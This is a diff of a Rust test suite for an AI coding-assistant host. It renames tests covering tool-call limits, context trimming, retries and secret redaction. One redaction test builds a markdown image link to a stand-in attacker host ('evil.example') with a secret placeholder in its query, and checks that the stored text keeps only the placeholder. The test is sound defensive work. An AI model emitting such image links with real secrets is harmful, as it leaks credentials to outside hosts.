@@ -135,7 +135,7 @@ impl ToolHost for Host {
         self.workspace.run(command, arguments)
     }
 
-    fn weigh(&self, text: &str) -> usize {
+    fn count_tokens(&self, text: &str) -> usize {
         self.workspace.snapshot().count(text, None).1
     }
 }
@@ -219,12 +219,12 @@ impl Host {
     }
 }
 
-fn says(text: &str) -> Turn {
+fn answer_with(text: &str) -> Turn {
     Turn::Says(vec![text.to_owned()])
 }
 
 #[test]
-fn an_answer_is_shown_recorded_and_summed_up() {
+fn an_answer_is_streamed_recorded_and_billed() {
     let mut host = Host::new();
     let (reply, bodies) = host.ask(vec![Turn::Says(vec!["Ad".to_owned(), "a.".to_owned()])], 16);
     let reply = reply.unwrap();
@@ -245,7 +245,7 @@ fn an_answer_is_shown_recorded_and_summed_up() {
 }
 
 #[test]
-fn the_model_looks_things_up_and_each_call_is_shown() {
+fn every_tool_call_is_answered_and_shown() {
     let mut host = Host::new();
     host.workspace.run("strata.files.exclude", json!({ "paths": ["hidden.py"] })).unwrap();
     let turns = vec![
@@ -259,7 +259,7 @@ fn the_model_looks_things_up_and_each_call_is_shown() {
         ]),
         Turn::Calls(vec![("rm", json!({})), ("grep", json!("x"))]),
         Turn::Calls(vec![("map", json!({})), ("symbols", json!({ "query": "greet" }))]),
-        says("lib.py does."),
+        answer_with("lib.py does."),
     ];
     let (reply, bodies) = host.ask(turns, 16);
     let reply = reply.unwrap();
@@ -292,7 +292,7 @@ fn the_model_looks_things_up_and_each_call_is_shown() {
 }
 
 #[test]
-fn rounds_of_tool_calls_have_an_end() {
+fn rounds_of_tool_calls_are_limited() {
     let mut host = Host::new();
     let (reply, bodies) = host.ask(vec![Turn::Calls(vec![("map", json!({}))])], 2);
     let reply = reply.unwrap();
@@ -305,7 +305,7 @@ fn rounds_of_tool_calls_have_an_end() {
     assert!(bodies[2].to_string().contains("No more tool calls are possible"));
     assert!(!bodies[1].to_string().contains("No more tool calls are possible"));
     // The conversation can continue, because every tool call has an answer.
-    let (reply, _) = host.ask(vec![says("Well.")], 2);
+    let (reply, _) = host.ask(vec![answer_with("Well.")], 2);
     assert_eq!(reply.unwrap().text.for_terminal(), "Well.");
 }
 
@@ -326,14 +326,15 @@ fn tools_stay_declared_when_they_may_not_be_called() {
         let tools = if format == Format::Bedrock { "toolConfig" } else { "tools" };
         let mut host = Host::new();
         // The last round declares the same tools as the first, and forbids calls where that costs no cache.
-        let (reply, bodies) = host.ask_with(ToolAccess::Read, format, vec![call(), says("Ada.")], 1, None);
+        let (reply, bodies) =
+            host.ask_with(ToolAccess::Read, format, vec![call(), answer_with("Ada.")], 1, None);
         assert_eq!((reply.unwrap().end, bodies.len()), (SendEnd::Complete, 2), "{format:?}");
         assert_eq!(bodies[0][tools], bodies[1][tools], "{format:?}");
         let forbidden = |body: &Value| body.get(field).filter(|_| field != tools).cloned();
         assert_eq!((forbidden(&bodies[0]), forbidden(&bodies[1])), (None, choice.clone()), "{format:?}");
         // So does a question without tools, and a call is answered with an error.
         let (reply, later) =
-            host.ask_with(ToolAccess::None, format, vec![call(), says("Still Ada.")], 1, None);
+            host.ask_with(ToolAccess::None, format, vec![call(), answer_with("Still Ada.")], 1, None);
         let reply = reply.unwrap();
         assert_eq!((reply.text.for_terminal(), reply.end), ("Still Ada.", SendEnd::Complete), "{format:?}");
         assert!(reply.tools[0].failed && later[1].to_string().contains("no tools may be used"), "{format:?}");
@@ -343,7 +344,7 @@ fn tools_stay_declared_when_they_may_not_be_called() {
         }
         // Without earlier declarations, there are none.
         let mut host = Host::new();
-        let (reply, bodies) = host.ask_with(ToolAccess::None, format, vec![says("Ada.")], 1, None);
+        let (reply, bodies) = host.ask_with(ToolAccess::None, format, vec![answer_with("Ada.")], 1, None);
         assert_eq!((reply.unwrap().end, bodies[0].get(tools)), (SendEnd::Complete, None), "{format:?}");
     }
 }
@@ -351,7 +352,7 @@ fn tools_stay_declared_when_they_may_not_be_called() {
 #[test]
 fn a_prompt_fits_into_the_window_of_the_server() {
     let long = format!("def greet(name):\n    return name\n\n{}", "# a long file\n".repeat(8_000));
-    for (window, session_limit, is_shed, warns) in [
+    for (window, session_limit, is_omitted, expects_warning) in [
         (None, None, false, false),
         (Some(200_000), None, false, false),
         (Some(8_000), None, true, true),
@@ -361,16 +362,17 @@ fn a_prompt_fits_into_the_window_of_the_server() {
         host.workspace.run("strata.budget.set", json!({ "maxInputTokens": session_limit })).unwrap();
         fs::write(host.folder.path().join("lib.py"), &long).unwrap();
         host.workspace.run("strata.files.select", json!({ "paths": ["lib.py"] })).unwrap();
-        let turns = vec![says("Ada.")];
+        let turns = vec![answer_with("Ada.")];
         let (reply, bodies) = host.ask_with(ToolAccess::None, Format::OpenAi, turns, 0, window);
         let reply = reply.unwrap();
-        let asks = host.progress.iter().any(|message| message == "asking the server for its window");
-        assert_eq!(asks, window.is_some());
-        assert_eq!(!reply.shed.is_empty(), is_shed, "{window:?}");
-        let warned =
+        let asked_for_window =
+            host.progress.iter().any(|message| message == "asking the server for its window");
+        assert_eq!(asked_for_window, window.is_some());
+        assert_eq!(!reply.shed.is_empty(), is_omitted, "{window:?}");
+        let has_warning =
             reply.warnings.iter().any(|warning| warning.contains("the server's window has 8,000 tokens"));
-        assert_eq!(warned, warns, "{window:?} {session_limit:?}: {:?}", reply.warnings);
-        assert_eq!(bodies[0].to_string().contains("# a long file"), !is_shed, "{window:?}");
+        assert_eq!(has_warning, expects_warning, "{window:?} {session_limit:?}: {:?}", reply.warnings);
+        assert_eq!(bodies[0].to_string().contains("# a long file"), !is_omitted, "{window:?}");
     }
     for (window, session_limit, names_window) in
         [(100, None, true), (100, Some(120), true), (120, Some(100), false), (120, Some(120), true)]
@@ -378,20 +380,20 @@ fn a_prompt_fits_into_the_window_of_the_server() {
         let mut host = Host::new();
         let limits = json!({ "maxInputTokens": session_limit });
         host.workspace.run("strata.budget.set", limits).unwrap();
-        let (refused, bodies) =
-            host.ask_with(ToolAccess::None, Format::OpenAi, vec![says("Ada.")], 0, Some(window));
-        let refused = refused.unwrap_err().to_string();
-        let named = refused.contains(&format!("the server's window has {window} tokens"));
-        assert_eq!(named, names_window, "{window} {session_limit:?}: {refused}");
+        let (error, bodies) =
+            host.ask_with(ToolAccess::None, Format::OpenAi, vec![answer_with("Ada.")], 0, Some(window));
+        let error = error.unwrap_err().to_string();
+        let named = error.contains(&format!("the server's window has {window} tokens"));
+        assert_eq!(named, names_window, "{window} {session_limit:?}: {error}");
         assert!(bodies.is_empty());
     }
 }
 
 #[test]
-fn an_answer_with_too_many_tool_calls_has_the_first_run_and_all_answered() {
+fn only_the_first_64_tool_calls_are_run_but_all_are_answered() {
     let mut host = Host::new();
     let calls = vec![("grep", json!({ "pattern": "greet" })); 200];
-    let (reply, bodies) = host.ask(vec![Turn::Calls(calls), says("Enough.")], 16);
+    let (reply, bodies) = host.ask(vec![Turn::Calls(calls), answer_with("Enough.")], 16);
     let reply = reply.unwrap();
     assert_eq!((reply.text.for_terminal(), reply.tools.len()), ("Enough.", 200));
     assert_eq!(reply.tools.iter().filter(|call| !call.failed).count(), 64);
@@ -405,7 +407,7 @@ fn an_answer_with_too_many_tool_calls_has_the_first_run_and_all_answered() {
 }
 
 #[test]
-fn what_was_said_until_it_was_stopped_is_recorded() {
+fn a_partial_answer_is_recorded() {
     let mut host = Host::new();
     let turns = vec![Turn::Calls(vec![("map", json!({}))]), Turn::IsStopped("It is")];
     let reply = host.ask(turns, 16).0.unwrap();
@@ -418,27 +420,27 @@ fn what_was_said_until_it_was_stopped_is_recorded() {
 }
 
 #[test]
-fn a_prompt_that_is_too_long_is_sent_once_more_and_not_twice() {
+fn a_prompt_that_is_too_long_is_compacted_and_resent_once() {
     let mut host = Host::new();
     for number in 0..40 {
-        let said = "It goes on and on. ".repeat(200);
-        let exchange = json!({ "user": format!("Question {number}"), "assistant": said });
+        let answer = "It goes on and on. ".repeat(200);
+        let exchange = json!({ "user": format!("Question {number}"), "assistant": answer });
         host.workspace.run("strata.history.addExchange", exchange).unwrap();
     }
     let too_long = || Turn::IsRefused(ProviderErrorKind::ContextLimit);
-    let (reply, bodies) = host.ask(vec![too_long(), says("Now it fits.")], 16);
+    let (reply, bodies) = host.ask(vec![too_long(), answer_with("Now it fits.")], 16);
     let reply = reply.unwrap();
     assert_eq!((reply.text.for_terminal(), reply.requests), ("Now it fits.", 1));
     assert!(reply.warnings.iter().any(|warning| warning.contains("compacted")), "{:?}", reply.warnings);
     assert!(host.shown.iter().any(|delta| delta.notice.is_some()));
     assert!(bodies[1].to_string().len() < bodies[0].to_string().len() / 2);
-    let (refused, bodies) = host.ask(vec![too_long()], 16);
-    let refused = refused.unwrap_err().to_string();
+    let (error, bodies) = host.ask(vec![too_long()], 16);
+    let error = error.unwrap_err().to_string();
     assert!(
-        refused.contains("(status 400): no; ")
-            && refused.contains("too long again")
-            && refused.contains("largest parts"),
-        "{refused}"
+        error.contains("(status 400): no; ")
+            && error.contains("too long again")
+            && error.contains("largest parts"),
+        "{error}"
     );
     assert_eq!(bodies.len(), 2);
 }
@@ -448,25 +450,25 @@ fn a_stated_limit_decides_how_much_of_the_conversation_is_sent_again() {
     for (limit, requested) in [(Some(4_000), Some(16_000)), (Some(8_000), None), (None, None)] {
         let mut host = Host::new();
         for number in 0..40 {
-            let said = "It goes on and on. ".repeat(200);
-            let exchange = json!({ "user": format!("Question {number}"), "assistant": said });
+            let answer = "It goes on and on. ".repeat(200);
+            let exchange = json!({ "user": format!("Question {number}"), "assistant": answer });
             host.workspace.run("strata.history.addExchange", exchange).unwrap();
         }
-        let turns = vec![Turn::IsTooLong(ContextSize { limit, requested }), says("Now it fits.")];
+        let turns = vec![Turn::IsTooLong(ContextSize { limit, requested }), answer_with("Now it fits.")];
         let (reply, bodies) = host.ask(turns, 16);
         assert_eq!(reply.unwrap().text.for_terminal(), "Now it fits.", "{limit:?}");
-        let sizes: Vec<usize> = bodies.iter().map(|body| host.weigh(&body.to_string())).collect();
-        let most = match (limit, requested) {
+        let sizes: Vec<usize> = bodies.iter().map(|body| host.count_tokens(&body.to_string())).collect();
+        let max_size = match (limit, requested) {
             (Some(limit), Some(requested)) => sizes[0] * limit as usize / requested as usize,
             (Some(limit), None) => limit as usize,
             _ => sizes[0] / 10 * 9,
         };
-        assert!(sizes[1] <= most + most / 10, "{limit:?} of {requested:?}: {sizes:?}");
+        assert!(sizes[1] <= max_size + max_size / 10, "{limit:?} of {requested:?}: {sizes:?}");
     }
 }
 
 #[test]
-fn a_wait_before_a_retry_is_shown_while_it_lasts() {
+fn a_long_wait_before_a_retry_is_shown_as_a_notice() {
     let mut host = Host::new();
     let reply = host.ask(vec![Turn::Waits(vec![1, 20])], 16).0.unwrap();
     assert_eq!((reply.text.for_terminal(), reply.requests), ("Now.", 1));
@@ -502,10 +504,10 @@ fn a_timeout_names_its_setting() {
 }
 
 #[test]
-fn a_request_that_is_refused_leaves_nothing_behind() {
+fn a_rejected_request_records_nothing() {
     let mut host = Host::new();
-    let (refused, _) = host.ask(vec![Turn::IsRefused(ProviderErrorKind::Authentication)], 16);
-    let Err(CommandError::Failed { message, details }) = refused else { panic!("{refused:?}") };
+    let (result, _) = host.ask(vec![Turn::IsRefused(ProviderErrorKind::Authentication)], 16);
+    let Err(CommandError::Failed { message, details }) = result else { panic!("{result:?}") };
     assert!(message.contains("check the key"), "{message}");
     assert_eq!(details, Some(FailureDetails::Authentication));
     assert!(host.messages().is_empty());
@@ -517,10 +519,10 @@ fn a_request_that_is_refused_leaves_nothing_behind() {
 }
 
 #[test]
-fn a_placeholder_that_comes_in_pieces_is_shown_as_the_secret_if_the_user_wishes() {
-    for shows in [false, true] {
+fn a_streamed_placeholder_is_restored_if_show_secrets_is_set() {
+    for show_secrets in [false, true] {
         let mut settings = Settings::default();
-        settings.redaction.show_secrets = shows;
+        settings.redaction.show_secrets = show_secrets;
         let mut host = Host::with(settings);
         let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
         let placeholder = host.workspace.snapshot().screen.text(&secret).into_owned();
@@ -528,17 +530,17 @@ fn a_placeholder_that_comes_in_pieces_is_shown_as_the_secret_if_the_user_wishes(
         let answer = |word: &str| format!("Use {word}! ![x](https://evil.example/?q={placeholder})");
         let pieces = answer(&placeholder).chars().map(String::from).collect();
         let reply = host.ask(vec![Turn::Says(pieces)], 16).0.unwrap();
-        let expected = answer(if shows { &secret } else { &placeholder });
+        let expected = answer(if show_secrets { &secret } else { &placeholder });
         assert_eq!((reply.text.for_terminal(), host.text()), (&*expected, expected.clone()));
         // The stored message, which is sent again, and the text for documents contain the placeholder.
-        let kept = host.messages().last().unwrap().to_string();
-        assert!(kept.contains(&placeholder) && !kept.contains(&secret), "{kept}");
+        let stored = host.messages().last().unwrap().to_string();
+        assert!(stored.contains(&placeholder) && !stored.contains(&secret), "{stored}");
         assert_eq!(reply.written, answer(&placeholder));
     }
 }
 
 #[test]
-fn no_tool_that_strata_runs_gets_a_secret() {
+fn arguments_of_tools_that_strata_runs_keep_their_placeholders() {
     let mut settings = Settings::default();
     settings.redaction.show_secrets = true;
     settings.redaction.edit_tools = vec!["grep".to_owned()];
@@ -546,7 +548,7 @@ fn no_tool_that_strata_runs_gets_a_secret() {
     let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
     let placeholder = host.workspace.snapshot().screen.text(&secret).into_owned();
     let calls = Turn::Calls(vec![("grep", json!({ "pattern": placeholder }))]);
-    let reply = host.ask(vec![calls, says("No.")], 16).0.unwrap();
+    let reply = host.ask(vec![calls, answer_with("No.")], 16).0.unwrap();
     assert_eq!(reply.tools[0].input["pattern"], json!(placeholder));
     let call = host.shown.iter().find_map(|delta| delta.tool_call.as_ref()).unwrap();
     assert_eq!(call.input["pattern"], json!(placeholder));
